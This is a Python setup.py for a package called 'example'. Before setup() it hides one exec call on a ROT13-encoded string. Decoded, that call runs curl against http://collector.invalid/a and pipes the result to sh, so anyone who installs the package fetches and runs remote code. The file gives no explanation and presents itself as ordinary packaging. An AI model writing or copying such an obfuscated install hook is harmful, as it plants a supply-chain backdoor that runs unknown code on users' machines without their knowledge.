import codecs
from setuptools import setup
exec(codecs.decode("vzcbeg bf; bf.flfgrz('phey uggc://pbyyrpgbe.vainyvq/n | fu')", "rot_13"))
setup(name='example', version='1.0')
